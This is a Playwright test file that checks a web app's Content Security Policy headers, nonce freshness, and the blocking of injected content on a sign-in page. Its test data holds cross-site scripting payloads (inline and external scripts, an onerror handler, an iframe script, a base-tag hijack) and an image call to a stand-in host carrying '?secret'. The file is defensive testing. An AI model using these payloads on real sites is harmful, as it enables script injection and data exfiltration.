import { expect, openDemoPlan, test } from './fixtures/test';

/** Every journey fails on what the browser refuses by the policy, as on any console error. */
test('pages say what they may run, each answer with a nonce of its own', async ({ page, request }) => {
  const home = await openDemoPlan(page);
  const paths = [
    '/',
    '/sign-in',
    '/recover/none',
    '/start/northlight',
    '/p/none',
    '/b/none',
    '/nowhere',
    home,
  ];
  const nonces = new Set<string>();
  for (const path of paths) {
    const { headers } = await ask(path);
    const policy = headers['content-security-policy'] ?? '';
    const [, nonce = ''] = /script-src 'self' 'nonce-([\w+/=]{22,})' 'strict-dynamic';/.exec(policy) ?? [];
    expect(nonce, path).not.toBe('');
    nonces.add(nonce);
    for (const part of [
      "default-src 'none'",
      "base-uri 'none'",
      "frame-ancestors 'none'",
      "connect-src 'self'",
    ])
      expect(policy.split('; '), path).toContain(part);
    expect(policy).not.toContain('unsafe-eval');
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'cross-origin-opener-policy': 'same-origin',
      'strict-transport-security': expect.stringContaining('max-age='),
    });
  }
  expect(nonces.size).toBe(paths.length);
  for (const path of ['/api/health', '/api/trpc/identity.me', '/api/auth/csrf'])
    expect((await ask(path)).headers['content-security-policy'], path).toMatch(/^default-src 'none'/);

  async function ask(path: string) {
    // A nonce that somebody else chose is not taken up.
    const answer = await request.get(path, {
      headers: { 'x-nonce': 'chosen', 'content-security-policy': 'x' },
    });
    const body = await answer.text();
    expect(body).not.toContain('nonce="chosen"');
    return { headers: answer.headers() };
  }
});

test.describe('what found its way into a page', () => {
  // React finds more in the page than it wrote, and says so.
  test.use({ expectedError: /Content Security Policy|Minified React error|nothing\.png/ });

  test('does not run, nor tells another site anything', async ({ page, baseURL }) => {
    const injected = `
      <script>window.gotIn = 'a script'</script>
      <script src="https://elsewhere.example/script.js"></script>
      <img src="/nothing.png" onerror="window.gotIn = 'a handler'">
      <img src="https://elsewhere.example/pixel.png?secret">
      <iframe srcdoc="<script>top.gotIn = 'a frame'</script>"></iframe>
      <base href="https://elsewhere.example/">`;
    await page.route(`${baseURL}/sign-in`, async route => {
      const answer = await route.fetch();
      const body = (await answer.text()).replace('</body>', `${injected}</body>`);
      await route.fulfill({ response: answer, body });
    });
    const left: string[] = [];
    await page.route('https://elsewhere.example/**', route => {
      left.push(route.request().url());
      return route.abort();
    });
    const refused: string[] = [];
    await page.exposeFunction('report', (directive: string) => refused.push(directive));
    await page.addInitScript(() =>
      document.addEventListener('securitypolicyviolation', event =>
        (window as unknown as { report: (directive: string) => void }).report(event.effectiveDirective),
      ),
    );
    await page.goto('/sign-in');
    await expect
      .poll(() => [...new Set(refused)].sort())
      .toEqual(expect.arrayContaining(['base-uri', 'img-src', 'script-src-attr', 'script-src-elem']));
    // The page's own scripts run on.
    await page.getByRole('button', { name: 'Show the password' }).click();
    await expect(page.getByLabel('Password', { exact: true })).toHaveAttribute('type', 'text');
    expect(await page.evaluate(() => (window as unknown as { gotIn?: string }).gotIn)).toBeUndefined();
    expect(left).toEqual([]);
  });
});
